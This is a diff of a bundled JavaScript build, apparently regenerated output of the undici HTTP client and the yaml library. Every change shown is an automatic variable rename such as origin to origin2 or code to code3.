@@ -11325,11 +11338,11 @@ var require_mock_agent = __commonJS({
         this[kClients] = agent[kClients];
         this[kOptions] = buildMockOptions(opts);
       }
-      get(origin) {
-        let dispatcher = this[kMockAgentGet](origin);
+      get(origin2) {
+        let dispatcher = this[kMockAgentGet](origin2);
         if (!dispatcher) {
-          dispatcher = this[kFactory](origin);
-          this[kMockAgentSet](origin, dispatcher);
+          dispatcher = this[kFactory](origin2);
+          this[kMockAgentSet](origin2, dispatcher);
         }
         return dispatcher;
       }
@@ -11368,27 +11381,27 @@ var require_mock_agent = __commonJS({
       get isMockActive() {
         return this[kIsMockActive];
       }
-      [kMockAgentSet](origin, dispatcher) {
-        this[kClients].set(origin, dispatcher);
+      [kMockAgentSet](origin2, dispatcher) {
+        this[kClients].set(origin2, dispatcher);
       }
-      [kFactory](origin) {
+      [kFactory](origin2) {
         const mockOptions = Object.assign({ agent: this }, this[kOptions]);
-        return this[kOptions] && this[kOptions].connections === 1 ? new MockClient(origin, mockOptions) : new MockPool(origin, mockOptions);
+        return this[kOptions] && this[kOptions].connections === 1 ? new MockClient(origin2, mockOptions) : new MockPool(origin2, mockOptions);
       }
-      [kMockAgentGet](origin) {
-        const client = this[kClients].get(origin);
+      [kMockAgentGet](origin2) {
+        const client = this[kClients].get(origin2);
         if (client) {
           return client;
         }
-        if (typeof origin !== "string") {
+        if (typeof origin2 !== "string") {
           const dispatcher = this[kFactory]("http://localhost:9999");
-          this[kMockAgentSet](origin, dispatcher);
+          this[kMockAgentSet](origin2, dispatcher);
           return dispatcher;
         }
         for (const [keyMatcher, nonExplicitDispatcher] of Array.from(this[kClients])) {
-          if (nonExplicitDispatcher && typeof keyMatcher !== "string" && matchValue(keyMatcher, origin)) {
-            const dispatcher = this[kFactory](origin);
-            this[kMockAgentSet](origin, dispatcher);
+          if (nonExplicitDispatcher && typeof keyMatcher !== "string" && matchValue(keyMatcher, origin2)) {
+            const dispatcher = this[kFactory](origin2);
+            this[kMockAgentSet](origin2, dispatcher);
             dispatcher[kDispatches] = nonExplicitDispatcher[kDispatches];
             return dispatcher;
           }
@@ -11399,7 +11412,7 @@ var require_mock_agent = __commonJS({
       }
       pendingInterceptors() {
         const mockAgentClients = this[kClients];
-        return Array.from(mockAgentClients.entries()).flatMap(([origin, scope]) => scope[kDispatches].map((dispatch) => ({ ...dispatch, origin }))).filter(({ pending }) => pending);
+        return Array.from(mockAgentClients.entries()).flatMap(([origin2, scope]) => scope[kDispatches].map((dispatch) => ({ ...dispatch, origin: origin2 }))).filter(({ pending }) => pending);
       }
       assertNoPendingInterceptors({ pendingInterceptorsFormatter = new PendingInterceptorsFormatter() } = {}) {
         const pending = this.pendingInterceptors();
@@ -11665,10 +11678,10 @@ var require_dns = __commonJS({
       get full() {
         return this.#records.size === this.#maxItems;
       }
-      runLookup(origin, opts, cb) {
-        const ips = this.#records.get(origin.hostname);
+      runLookup(origin2, opts, cb) {
+        const ips = this.#records.get(origin2.hostname);
         if (ips == null && this.full) {
-          cb(null, origin.origin);
+          cb(null, origin2.origin);
           return;
         }
         const newOpts = {
@@ -11681,59 +11694,59 @@ var require_dns = __commonJS({
           maxItems: this.#maxItems
         };
         if (ips == null) {
-          this.lookup(origin, newOpts, (err, addresses) => {
+          this.lookup(origin2, newOpts, (err, addresses) => {
             if (err || addresses == null || addresses.length === 0) {
               cb(err ?? new InformationalError("No DNS entries found"));
               return;
             }
-            this.setRecords(origin, addresses);
-            const records = this.#records.get(origin.hostname);
+            this.setRecords(origin2, addresses);
+            const records = this.#records.get(origin2.hostname);
             const ip = this.pick(
-              origin,
+              origin2,
               records,
               newOpts.affinity
             );
             let port;
             if (typeof ip.port === "number") {
               port = `:${ip.port}`;
-            } else if (origin.port !== "") {
-              port = `:${origin.port}`;
+            } else if (origin2.port !== "") {
+              port = `:${origin2.port}`;
             } else {
               port = "";
             }
             cb(
               null,
-              `${origin.protocol}//${ip.family === 6 ? `[${ip.address}]` : ip.address}${port}`
+              `${origin2.protocol}//${ip.family === 6 ? `[${ip.address}]` : ip.address}${port}`
             );
           });
         } else {
           const ip = this.pick(
-            origin,
+            origin2,
             ips,
             newOpts.affinity
           );
           if (ip == null) {
-            this.#records.delete(origin.hostname);
-            this.runLookup(origin, opts, cb);
+            this.#records.delete(origin2.hostname);
+            this.runLookup(origin2, opts, cb);
             return;
           }
           let port;
           if (typeof ip.port === "number") {
             port = `:${ip.port}`;
-          } else if (origin.port !== "") {
-            port = `:${origin.port}`;
+          } else if (origin2.port !== "") {
+            port = `:${origin2.port}`;
           } else {
             port = "";
           }
           cb(
             null,
-            `${origin.protocol}//${ip.family === 6 ? `[${ip.address}]` : ip.address}${port}`
+            `${origin2.protocol}//${ip.family === 6 ? `[${ip.address}]` : ip.address}${port}`
           );
         }
       }
-      #defaultLookup(origin, opts, cb) {
+      #defaultLookup(origin2, opts, cb) {
         lookup(
-          origin.hostname,
+          origin2.hostname,
           {
             all: true,
             family: this.dualStack === false ? this.affinity : 0,
@@ -11751,7 +11764,7 @@ var require_dns = __commonJS({
           }
         );
       }
-      #defaultPick(origin, hostnameRecords, affinity) {
+      #defaultPick(origin2, hostnameRecords, affinity) {
         let ip = null;
         const { records, offset } = hostnameRecords;
         let family2;
@@ -11788,11 +11801,11 @@ var require_dns = __commonJS({
         }
         if (Date.now() - ip.timestamp > ip.ttl) {
           family2.ips.splice(position, 1);
-          return this.pick(origin, hostnameRecords, affinity);
+          return this.pick(origin2, hostnameRecords, affinity);
         }
         return ip;
       }
-      setRecords(origin, addresses) {
+      setRecords(origin2, addresses) {
         const timestamp = Date.now();
         const records = { records: { 4: null, 6: null } };
         for (const record of addresses) {
@@ -11806,7 +11819,7 @@ var require_dns = __commonJS({
           familyRecords.ips.push(record);
           records.records[record.family] = familyRecords;
         }
-        this.#records.set(origin.hostname, records);
+        this.#records.set(origin2.hostname, records);
       }
       getHandler(meta, opts) {
         return new DNSDispatchHandler(this, meta, opts);
@@ -11818,9 +11831,9 @@ var require_dns = __commonJS({
       #dispatch = null;
       #handler = null;
       #origin = null;
-      constructor(state, { origin, handler, dispatch }, opts) {
+      constructor(state, { origin: origin2, handler, dispatch }, opts) {
         super(handler);
-        this.#origin = origin;
+        this.#origin = origin2;
         this.#handler = handler;
         this.#opts = { ...opts };
         this.#state = state;
@@ -11895,28 +11908,28 @@ var require_dns = __commonJS({
       const instance = new DNSInstance(opts);
       return (dispatch) => {
         return function dnsInterceptor(origDispatchOpts, handler) {
-          const origin = origDispatchOpts.origin.constructor === URL ? origDispatchOpts.origin : new URL(origDispatchOpts.origin);
-          if (isIP(origin.hostname) !== 0) {
+          const origin2 = origDispatchOpts.origin.constructor === URL ? origDispatchOpts.origin : new URL(origDispatchOpts.origin);
+          if (isIP(origin2.hostname) !== 0) {
             return dispatch(origDispatchOpts, handler);
           }
-          instance.runLookup(origin, origDispatchOpts, (err, newOrigin) => {
+          instance.runLookup(origin2, origDispatchOpts, (err, newOrigin) => {
             if (err) {
               return handler.onError(err);
             }
             let dispatchOpts = null;
             dispatchOpts = {
               ...origDispatchOpts,
-              servername: origin.hostname,
+              servername: origin2.hostname,
               // For SNI on TLS
               origin: newOrigin,
               headers: {
-                host: origin.hostname,
+                host: origin2.hostname,
                 ...origDispatchOpts.headers
               }
             };
             dispatch(
               dispatchOpts,
-              instance.getHandler({ origin, dispatch, handler }, origDispatchOpts)
+              instance.getHandler({ origin: origin2, dispatch, handler }, origDispatchOpts)
             );
           });
           return true;
@@ -11942,8 +11955,8 @@ var require_headers = __commonJS({
     var util = __require("node:util");
     var kHeadersMap = /* @__PURE__ */ Symbol("headers map");
     var kHeadersSortedMap = /* @__PURE__ */ Symbol("headers map sorted");
-    function isHTTPWhiteSpaceCharCode(code) {
-      return code === 10 || code === 13 || code === 9 || code === 32;
+    function isHTTPWhiteSpaceCharCode(code3) {
+      return code3 === 10 || code3 === 13 || code3 === 9 || code3 === 32;
     }
     function headerValueNormalize(potentialValue) {
       let i = 0;
@@ -12908,9 +12921,9 @@ var require_request2 = __commonJS({
           request = input[kState];
           signal = input[kSignal];
         }
-        const origin = environmentSettingsObject.settingsObject.origin;
+        const origin2 = environmentSettingsObject.settingsObject.origin;
         let window = "client";
-        if (request.window?.constructor?.name === "EnvironmentSettingsObject" && sameOrigin(request.window, origin)) {
+        if (request.window?.constructor?.name === "EnvironmentSettingsObject" && sameOrigin(request.window, origin2)) {
           window = request.window;
         }
         if (init.window != null) {
@@ -12986,7 +12999,7 @@ var require_request2 = __commonJS({
             } catch (err) {
               throw new TypeError(`Referrer "${referrer}" is not a valid URL.`, { cause: err });
             }
-            if (parsedReferrer.protocol === "about:" && parsedReferrer.hostname === "client" || origin && !sameOrigin(parsedReferrer, environmentSettingsObject.settingsObject.baseUrl)) {
+            if (parsedReferrer.protocol === "about:" && parsedReferrer.hostname === "client" || origin2 && !sameOrigin(parsedReferrer, environmentSettingsObject.settingsObject.baseUrl)) {
               request.referrer = "client";
             } else {
               request.referrer = parsedReferrer;
@@ -15759,8 +15772,8 @@ var require_cache = __commonJS({
        * @returns {requestResponseList}
        */
       #batchCacheOperations(operations) {
-        const cache2 = this.#relevantRequestResponseList;
-        const backupCache = [...cache2];
+        const cache3 = this.#relevantRequestResponseList;
+        const backupCache = [...cache3];
         const addedItems = [];
         const resultList = [];
         try {
@@ -15787,9 +15800,9 @@ var require_cache = __commonJS({
                 return [];
               }
               for (const requestResponse of requestResponses) {
-                const idx = cache2.indexOf(requestResponse);
+                const idx = cache3.indexOf(requestResponse);
                 assert(idx !== -1);
-                cache2.splice(idx, 1);
+                cache3.splice(idx, 1);
               }
             } else if (operation.type === "put") {
               if (operation.response == null) {
@@ -15819,11 +15832,11 @@ var require_cache = __commonJS({
               }
               requestResponses = this.#queryCache(operation.request);
               for (const requestResponse of requestResponses) {
-                const idx = cache2.indexOf(requestResponse);
+                const idx = cache3.indexOf(requestResponse);
                 assert(idx !== -1);
-                cache2.splice(idx, 1);
+                cache3.splice(idx, 1);
               }
-              cache2.push([operation.request, operation.response]);
+              cache3.push([operation.request, operation.response]);
               addedItems.push([operation.request, operation.response]);
             }
             resultList.push([operation.request, operation.response]);
@@ -15997,13 +16010,13 @@ var require_cachestorage = __commonJS({
         if (options.cacheName != null) {
           if (this.#caches.has(options.cacheName)) {
             const cacheList = this.#caches.get(options.cacheName);
-            const cache2 = new Cache(kConstruct, cacheList);
-            return await cache2.match(request, options);
+            const cache3 = new Cache(kConstruct, cacheList);
+            return await cache3.match(request, options);
           }
         } else {
           for (const cacheList of this.#caches.values()) {
-            const cache2 = new Cache(kConstruct, cacheList);
-            const response = await cache2.match(request, options);
+            const cache3 = new Cache(kConstruct, cacheList);
+            const response = await cache3.match(request, options);
             if (response !== void 0) {
               return response;
             }
@@ -16033,12 +16046,12 @@ var require_cachestorage = __commonJS({
         webidl.argumentLengthCheck(arguments, 1, prefix2);
         cacheName = webidl.converters.DOMString(cacheName, prefix2, "cacheName");
         if (this.#caches.has(cacheName)) {
-          const cache3 = this.#caches.get(cacheName);
-          return new Cache(kConstruct, cache3);
+          const cache4 = this.#caches.get(cacheName);
+          return new Cache(kConstruct, cache4);
         }
-        const cache2 = [];
-        this.#caches.set(cacheName, cache2);
-        return new Cache(kConstruct, cache2);
+        const cache3 = [];
+        this.#caches.set(cacheName, cache3);
+        return new Cache(kConstruct, cache3);
       }
       /**
        * @see https://w3c.github.io/ServiceWorker/#cache-storage-delete
@@ -16098,8 +16111,8 @@ var require_util6 = __commonJS({
     "use strict";
     function isCTLExcludingHtab(value) {
       for (let i = 0; i < value.length; ++i) {
-        const code = value.charCodeAt(i);
-        if (code >= 0 && code <= 8 || code >= 10 && code <= 31 || code === 127) {
+        const code3 = value.charCodeAt(i);
+        if (code3 >= 0 && code3 <= 8 || code3 >= 10 && code3 <= 31 || code3 === 127) {
           return true;
         }
       }
@@ -16107,26 +16120,26 @@ var require_util6 = __commonJS({
     }
     function validateCookieName(name) {
       for (let i = 0; i < name.length; ++i) {
-        const code = name.charCodeAt(i);
-        if (code < 33 || // exclude CTLs (0-31), SP and HT
-        code > 126 || // exclude non-ascii and DEL
-        code === 34 || // "
-        code === 40 || // (
-        code === 41 || // )
-        code === 60 || // <
-        code === 62 || // >
-        code === 64 || // @
-        code === 44 || // ,
-        code === 59 || // ;
-        code === 58 || // :
-        code === 92 || // \
-        code === 47 || // /
-        code === 91 || // [
-        code === 93 || // ]
-        code === 63 || // ?
-        code === 61 || // =
-        code === 123 || // {
-        code === 125) {
+        const code3 = name.charCodeAt(i);
+        if (code3 < 33 || // exclude CTLs (0-31), SP and HT
+        code3 > 126 || // exclude non-ascii and DEL
+        code3 === 34 || // "
+        code3 === 40 || // (
+        code3 === 41 || // )
+        code3 === 60 || // <
+        code3 === 62 || // >
+        code3 === 64 || // @
+        code3 === 44 || // ,
+        code3 === 59 || // ;
+        code3 === 58 || // :
+        code3 === 92 || // \
+        code3 === 47 || // /
+        code3 === 91 || // [
+        code3 === 93 || // ]
+        code3 === 63 || // ?
+        code3 === 61 || // =
+        code3 === 123 || // {
+        code3 === 125) {
           throw new Error("Invalid cookie name");
         }
       }
@@ -16142,31 +16155,31 @@ var require_util6 = __commonJS({
         ++i;
       }
       while (i < len) {
-        const code = value.charCodeAt(i++);
-        if (code < 33 || // exclude CTLs (0-31)
-        code > 126 || // non-ascii and DEL (127)
-        code === 34 || // "
-        code === 44 || // ,
-        code === 59 || // ;
-        code === 92) {
+        const code3 = value.charCodeAt(i++);
+        if (code3 < 33 || // exclude CTLs (0-31)
+        code3 > 126 || // non-ascii and DEL (127)
+        code3 === 34 || // "
+        code3 === 44 || // ,
+        code3 === 59 || // ;
+        code3 === 92) {
           throw new Error("Invalid cookie value");
         }
       }
     }
     function validateCookiePath(path8) {
       for (let i = 0; i < path8.length; ++i) {
-        const code = path8.charCodeAt(i);
-        if (code < 32 || // exclude CTLs (0-31)
-        code > 126 || // exclude DEL and non-ascii
-        code === 59) {
+        const code3 = path8.charCodeAt(i);
+        if (code3 < 32 || // exclude CTLs (0-31)
+        code3 > 126 || // exclude DEL and non-ascii
+        code3 === 59) {
           throw new Error("Invalid cookie path");
         }
       }
     }
-    function isLetterOrDigit(code) {
-      return code >= 48 && code <= 57 || // 0-9
-      code >= 65 && code <= 90 || // A-Z
-      code >= 97 && code <= 122;
+    function isLetterOrDigit(code3) {
+      return code3 >= 48 && code3 <= 57 || // 0-9
+      code3 >= 65 && code3 <= 90 || // A-Z
+      code3 >= 97 && code3 <= 122;
     }
     function validateCookieDomain(domain) {
       if (domain === " ") {
@@ -16177,8 +16190,8 @@ var require_util6 = __commonJS({
       }
       let labelLength = 0;
       for (let i = 0; i < domain.length; ++i) {
-        const code = domain.charCodeAt(i);
-        if (code === 46) {
+        const code3 = domain.charCodeAt(i);
+        if (code3 === 46) {
           if (labelLength === 0) {
             throw new Error("Invalid cookie domain");
           }
@@ -16188,10 +16201,10 @@ var require_util6 = __commonJS({
           labelLength = 0;
           continue;
         }
-        if (labelLength === 0 && !isLetterOrDigit(code)) {
+        if (labelLength === 0 && !isLetterOrDigit(code3)) {
           throw new Error("Invalid cookie domain");
         }
-        if (!isLetterOrDigit(code) && code !== 45) {
+        if (!isLetterOrDigit(code3) && code3 !== 45) {
           throw new Error("Invalid cookie domain");
         }
         if (++labelLength > 63) {
@@ -16612,14 +16625,14 @@ var require_events = __commonJS({
         }
         return this.#eventInit.ports;
       }
-      initMessageEvent(type, bubbles = false, cancelable = false, data = null, origin = "", lastEventId = "", source = null, ports = []) {
+      initMessageEvent(type, bubbles = false, cancelable = false, data = null, origin2 = "", lastEventId = "", source = null, ports = []) {
         webidl.brandCheck(this, _MessageEvent);
         webidl.argumentLengthCheck(arguments, 1, "MessageEvent.initMessageEvent");
         return new _MessageEvent(type, {
           bubbles,
           cancelable,
           data,
-          origin,
+          origin: origin2,
           lastEventId,
           source,
           ports
@@ -16965,37 +16978,37 @@ var require_util7 = __commonJS({
         return false;
       }
       for (let i = 0; i < protocol.length; ++i) {
-        const code = protocol.charCodeAt(i);
-        if (code < 33 || // CTL, contains SP (0x20) and HT (0x09)
-        code > 126 || code === 34 || // "
-        code === 40 || // (
-        code === 41 || // )
-        code === 44 || // ,
-        code === 47 || // /
-        code === 58 || // :
-        code === 59 || // ;
-        code === 60 || // <
-        code === 61 || // =
-        code === 62 || // >
-        code === 63 || // ?
-        code === 64 || // @
-        code === 91 || // [
-        code === 92 || // \
-        code === 93 || // ]
-        code === 123 || // {
-        code === 125) {
+        const code3 = protocol.charCodeAt(i);
+        if (code3 < 33 || // CTL, contains SP (0x20) and HT (0x09)
+        code3 > 126 || code3 === 34 || // "
+        code3 === 40 || // (
+        code3 === 41 || // )
+        code3 === 44 || // ,
+        code3 === 47 || // /
+        code3 === 58 || // :
+        code3 === 59 || // ;
+        code3 === 60 || // <
+        code3 === 61 || // =
+        code3 === 62 || // >
+        code3 === 63 || // ?
+        code3 === 64 || // @
+        code3 === 91 || // [
+        code3 === 92 || // \
+        code3 === 93 || // ]
+        code3 === 123 || // {
+        code3 === 125) {
           return false;
         }
       }
       return true;
     }
-    function isValidStatusCode(code) {
-      if (code >= 1e3 && code < 1015) {
-        return code !== 1004 && // reserved
-        code !== 1005 && // "MUST NOT be set as a status code"
-        code !== 1006;
+    function isValidStatusCode(code3) {
+      if (code3 >= 1e3 && code3 < 1015) {
+        return code3 !== 1004 && // reserved
+        code3 !== 1005 && // "MUST NOT be set as a status code"
+        code3 !== 1006;
       }
-      return code >= 3e3 && code <= 4999;
+      return code3 >= 3e3 && code3 <= 4999;
     }
     function failWebsocketConnection(ws, reason) {
       const { [kController]: controller, [kResponse]: response } = ws;
@@ -17264,7 +17277,7 @@ var require_connection = __commonJS({
       });
       return controller;
     }
-    function closeWebSocketConnection(ws, code, reason, reasonByteLength) {
+    function closeWebSocketConnection(ws, code3, reason, reasonByteLength) {
       if (isClosing(ws) || isClosed(ws)) {
       } else if (!isEstablished(ws)) {
         failWebsocketConnection(ws, "Connection was closed before it was established.");
@@ -17272,12 +17285,12 @@ var require_connection = __commonJS({
       } else if (ws[kSentClose] === sentCloseFrameState.NOT_SENT) {
         ws[kSentClose] = sentCloseFrameState.PROCESSING;
         const frame = new WebsocketFrameSend();
-        if (code !== void 0 && reason === void 0) {
+        if (code3 !== void 0 && reason === void 0) {
           frame.frameData = Buffer.allocUnsafe(2);
-          frame.frameData.writeUInt16BE(code, 0);
-        } else if (code !== void 0 && reason !== void 0) {
+          frame.frameData.writeUInt16BE(code3, 0);
+        } else if (code3 !== void 0 && reason !== void 0) {
           frame.frameData = Buffer.allocUnsafe(2 + reasonByteLength);
-          frame.frameData.writeUInt16BE(code, 0);
+          frame.frameData.writeUInt16BE(code3, 0);
           frame.frameData.write(reason, 2, "utf-8");
         } else {
           frame.frameData = emptyBuffer;
@@ -17302,25 +17315,25 @@ var require_connection = __commonJS({
       response.socket.off("close", onSocketClose);
       response.socket.off("error", onSocketError);
       const wasClean = ws[kSentClose] === sentCloseFrameState.SENT && ws[kReceivedClose];
-      let code = 1005;
+      let code3 = 1005;
       let reason = "";
       const result = ws[kByteParser].closingInfo;
       if (result && !result.error) {
-        code = result.code ?? 1005;
+        code3 = result.code ?? 1005;
         reason = result.reason;
       } else if (!ws[kReceivedClose]) {
-        code = 1006;
+        code3 = 1006;
       }
       ws[kReadyState] = states.CLOSED;
       fireEvent("close", ws, (type, init) => new CloseEvent(type, init), {
         wasClean,
-        code,
+        code: code3,
         reason
       });
       if (channels.close.hasSubscribers) {
         channels.close.publish({
           websocket: ws,
-          code,
+          code: code3,
           reason
         });
       }
@@ -17445,8 +17458,8 @@ var require_receiver = __commonJS({
     var { closeWebSocketConnection } = require_connection();
     var { PerMessageDeflate } = require_permessage_deflate();
     var { MessageSizeExceededError } = require_errors();
-    function failWebsocketConnectionWithCode(ws, code, reason) {
-      closeWebSocketConnection(ws, code, reason, Buffer.byteLength(reason));
+    function failWebsocketConnectionWithCode(ws, code3, reason) {
+      closeWebSocketConnection(ws, code3, reason, Buffer.byteLength(reason));
       failWebsocketConnection(ws, reason);
     }
     var ByteParser = class extends Writable {
@@ -17633,8 +17646,8 @@ var require_receiver = __commonJS({
                   this.#info.fin,
                   (error2, data) => {
                     if (error2) {
-                      const code = error2 instanceof MessageSizeExceededError ? 1009 : 1007;
-                      failWebsocketConnectionWithCode(this.ws, code, error2.message);
+                      const code3 = error2 instanceof MessageSizeExceededError ? 1009 : 1007;
+                      failWebsocketConnectionWithCode(this.ws, code3, error2.message);
                       return;
                     }
                     if (!this.writeFragments(data)) {
@@ -17720,11 +17733,11 @@ var require_receiver = __commonJS({
       }
       parseCloseBody(data) {
         assert(data.length !== 1);
-        let code;
+        let code3;
         if (data.length >= 2) {
-          code = data.readUInt16BE(0);
+          code3 = data.readUInt16BE(0);
         }
-        if (code !== void 0 && !isValidStatusCode(code)) {
+        if (code3 !== void 0 && !isValidStatusCode(code3)) {
           return { code: 1002, reason: "Invalid status code", error: true };
         }
         let reason = data.subarray(2);
@@ -17736,7 +17749,7 @@ var require_receiver = __commonJS({
         } catch {
           return { code: 1007, reason: "Invalid UTF-8", error: true };
         }
-        return { code, reason, error: false };
+        return { code: code3, reason, error: false };
       }
       /**
        * Parses control frames.
@@ -17751,8 +17764,8 @@ var require_receiver = __commonJS({
           }
           this.#info.closeInfo = this.parseCloseBody(body);
           if (this.#info.closeInfo.error) {
-            const { code, reason } = this.#info.closeInfo;
-            closeWebSocketConnection(this.ws, code, reason, reason.length);
+            const { code: code3, reason } = this.#info.closeInfo;
+            closeWebSocketConnection(this.ws, code3, reason, reason.length);
             failWebsocketConnection(this.ws, reason);
             return false;
           }
@@ -17990,17 +18003,17 @@ var require_websocket = __commonJS({
        * @param {number|undefined} code
        * @param {string|undefined} reason
        */
-      close(code = void 0, reason = void 0) {
+      close(code3 = void 0, reason = void 0) {
         webidl.brandCheck(this, _WebSocket);
         const prefix2 = "WebSocket.close";
-        if (code !== void 0) {
-          code = webidl.converters["unsigned short"](code, prefix2, "code", { clamp: true });
+        if (code3 !== void 0) {
+          code3 = webidl.converters["unsigned short"](code3, prefix2, "code", { clamp: true });
         }
         if (reason !== void 0) {
           reason = webidl.converters.USVString(reason, prefix2, "reason");
         }
-        if (code !== void 0) {
-          if (code !== 1e3 && (code < 3e3 || code > 4999)) {
+        if (code3 !== void 0) {
+          if (code3 !== 1e3 && (code3 < 3e3 || code3 > 4999)) {
             throw new DOMException("invalid code", "InvalidAccessError");
           }
         }
@@ -18014,7 +18027,7 @@ var require_websocket = __commonJS({
             );
           }
         }
-        closeWebSocketConnection(this, code, reason, reasonByteLength);
+        closeWebSocketConnection(this, code3, reason, reasonByteLength);
       }
       /**
        * @see https://websockets.spec.whatwg.org/#dom-websocket-send
@@ -18260,15 +18273,15 @@ var require_websocket = __commonJS({
     }
     function onParserError(err) {
       let message;
-      let code;
+      let code3;
       if (err instanceof CloseEvent) {
         message = err.reason;
-        code = err.code;
+        code3 = err.code;
       } else {
         message = err.message;
       }
       fireEvent("error", this, () => new ErrorEvent("error", { error: err, message }));
-      closeWebSocketConnection(this, code);
+      closeWebSocketConnection(this, code3);
     }
     module.exports = {
       WebSocket
@@ -19161,12 +19174,12 @@ var require_identity = __commonJS({
     var SCALAR = /* @__PURE__ */ Symbol.for("yaml.scalar");
     var SEQ = /* @__PURE__ */ Symbol.for("yaml.seq");
     var NODE_TYPE = /* @__PURE__ */ Symbol.for("yaml.node.type");
-    var isAlias2 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === ALIAS;
+    var isAlias5 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === ALIAS;
     var isDocument = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === DOC;
-    var isMap3 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === MAP;
-    var isPair3 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === PAIR;
-    var isScalar3 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === SCALAR;
-    var isSeq3 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === SEQ;
+    var isMap6 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === MAP;
+    var isPair4 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === PAIR;
+    var isScalar7 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === SCALAR;
+    var isSeq6 = (node) => !!node && typeof node === "object" && node[NODE_TYPE] === SEQ;
     function isCollection(node) {
       if (node && typeof node === "object")
         switch (node[NODE_TYPE]) {
@@ -19176,7 +19189,7 @@ var require_identity = __commonJS({
         }
       return false;
     }
-    function isNode2(node) {
+    function isNode3(node) {
       if (node && typeof node === "object")
         switch (node[NODE_TYPE]) {
           case ALIAS:
@@ -19187,7 +19200,7 @@ var require_identity = __commonJS({
         }
       return false;
     }
-    var hasAnchor = (node) => (isScalar3(node) || isCollection(node)) && !!node.anchor;
+    var hasAnchor = (node) => (isScalar7(node) || isCollection(node)) && !!node.anchor;
     exports.ALIAS = ALIAS;
     exports.DOC = DOC;
     exports.MAP = MAP;
@@ -19196,14 +19209,14 @@ var require_identity = __commonJS({
     exports.SCALAR = SCALAR;
     exports.SEQ = SEQ;
     exports.hasAnchor = hasAnchor;
-    exports.isAlias = isAlias2;
+    exports.isAlias = isAlias5;
     exports.isCollection = isCollection;
     exports.isDocument = isDocument;
-    exports.isMap = isMap3;
-    exports.isNode = isNode2;
-    exports.isPair = isPair3;
-    exports.isScalar = isScalar3;
-    exports.isSeq = isSeq3;
+    exports.isMap = isMap6;
+    exports.isNode = isNode3;
+    exports.isPair = isPair4;
+    exports.isScalar = isScalar7;
+    exports.isSeq = isSeq6;
   }
 });
 
@@ -20297,8 +20310,8 @@ var require_stringifyString = __commonJS({
             case "u":
               {
                 str += json.slice(start, i);
-                const code = json.substr(i + 2, 4);
-                switch (code) {
+                const code3 = json.substr(i + 2, 4);
+                switch (code3) {
                   case "0000":
                     str += "\\0";
                     break;
@@ -20324,8 +20337,8 @@ var require_stringifyString = __commonJS({
                     str += "\\P";
                     break;
                   default:
-                    if (code.substr(0, 2) === "00")
-                      str += "\\x" + code.substr(2);
+                    if (code3.substr(0, 2) === "00")
+                      str += "\\x" + code3.substr(2);
                     else
                       str += json.substr(i, 6);
                 }
@@ -20462,7 +20475,7 @@ ${indent}${body}`;
       return `|${header}
 ${indent}${start}${value}${end}`;
     }
-    function plainString(item, ctx, onComment, onChompKeep) {
+    function plainString2(item, ctx, onComment, onChompKeep) {
       const { type, value } = item;
       const { actualString, implicitKey, indent, indentStep, inFlow } = ctx;
       if (implicitKey && value.includes("\n") || inFlow && /[[\]{},]/.test(value)) {
@@ -20510,7 +20523,7 @@ ${indent}`);
           case Scalar.Scalar.QUOTE_SINGLE:
             return singleQuotedString(ss.value, ctx);
           case Scalar.Scalar.PLAIN:
-            return plainString(ss, ctx, onComment, onChompKeep);
+            return plainString2(ss, ctx, onComment, onChompKeep);
           default:
             return null;
         }
@@ -20984,13 +20997,13 @@ var require_stringifyCollection = __commonJS({
       const stringify2 = flow ? stringifyFlowCollection : stringifyBlockCollection;
       return stringify2(collection, ctx, options);
     }
-    function stringifyBlockCollection({ comment, items }, ctx, { blockItemPrefix, flowChars, itemIndent, onChompKeep, onComment }) {
+    function stringifyBlockCollection({ comment, items: items2 }, ctx, { blockItemPrefix, flowChars, itemIndent, onChompKeep, onComment }) {
       const { indent, options: { commentString } } = ctx;
       const itemCtx = Object.assign({}, ctx, { indent: itemIndent, type: null });
       let chompKeep = false;
       const lines2 = [];
-      for (let i = 0; i < items.length; ++i) {
-        const item = items[i];
+      for (let i = 0; i < items2.length; ++i) {
+        const item = items2[i];
         let comment2 = null;
         if (identity.isNode(item)) {
           if (!chompKeep && item.spaceBefore)
@@ -21033,7 +21046,7 @@ ${indent}${line}` : "\n";
         onChompKeep();
       return str;
     }
-    function stringifyFlowCollection({ items }, ctx, { flowChars, itemIndent }) {
+    function stringifyFlowCollection({ items: items2 }, ctx, { flowChars, itemIndent }) {
       const { indent, indentStep, flowCollectionPadding: fcPadding, options: { commentString } } = ctx;
       itemIndent += indentStep;
       const itemCtx = Object.assign({}, ctx, {
@@ -21044,8 +21057,8 @@ ${indent}${line}` : "\n";
       let reqNewline = false;
       let linesAtValue = 0;
       const lines2 = [];
-      for (let i = 0; i < items.length; ++i) {
-        const item = items[i];
+      for (let i = 0; i < items2.length; ++i) {
+        const item = items2[i];
         let comment = null;
         if (identity.isNode(item)) {
           if (item.spaceBefore)
@@ -21076,7 +21089,7 @@ ${indent}${line}` : "\n";
           reqNewline = true;
         let str = stringify.stringify(item, itemCtx, () => comment = null);
         reqNewline || (reqNewline = lines2.length > linesAtValue || str.includes("\n"));
-        if (i < items.length - 1) {
+        if (i < items2.length - 1) {
           str += ",";
         } else if (ctx.options.trailingComma) {
           if (ctx.options.lineWidth > 0) {
@@ -21133,9 +21146,9 @@ var require_YAMLMap = __commonJS({
     var identity = require_identity();
     var Pair = require_Pair();
     var Scalar = require_Scalar();
-    function findPair2(items, key) {
+    function findPair2(items2, key) {
       const k = identity.isScalar(key) ? key.value : key;
-      for (const it of items) {
+      for (const it of items2) {
         if (identity.isPair(it)) {
           if (it.key === key || it.key === k)
             return it;
@@ -21299,7 +21312,7 @@ var require_YAMLSeq = __commonJS({
     var identity = require_identity();
     var Scalar = require_Scalar();
     var toJS = require_toJS();
-    var YAMLSeq = class extends Collection.Collection {
+    var YAMLSeq2 = class extends Collection.Collection {
       static get tagName() {
         return "tag:yaml.org,2002:seq";
       }
@@ -21401,7 +21414,7 @@ var require_YAMLSeq = __commonJS({
         idx = Number(idx);
